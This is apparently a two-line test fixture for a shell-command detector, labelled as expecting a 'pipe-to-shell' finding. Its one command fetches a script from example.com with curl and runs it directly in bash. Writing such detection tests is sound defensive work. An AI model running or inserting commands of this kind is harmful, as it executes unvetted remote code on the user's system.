# expect: pipe-to-shell
bash <(curl -s https://example.com/x)
